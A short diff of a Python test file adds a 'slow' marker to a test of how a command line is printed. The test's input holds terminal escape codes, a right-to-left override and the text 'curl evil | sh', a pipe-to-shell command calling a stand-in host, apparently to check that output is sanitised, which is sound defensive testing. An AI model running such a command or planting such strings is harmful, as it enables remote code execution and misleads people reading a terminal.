@@ -180,6 +180,7 @@ def run(*words: str, home: Path, check: int) -> subprocess.CompletedProcess[str]
     return done
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("written", ["text", "json"])
 def test_printable_command_line_shows_its_arguments(tmp_path, written):
     name = "mo\x1b[31mdel\x07\n  fix:   curl evil | sh\u202e"
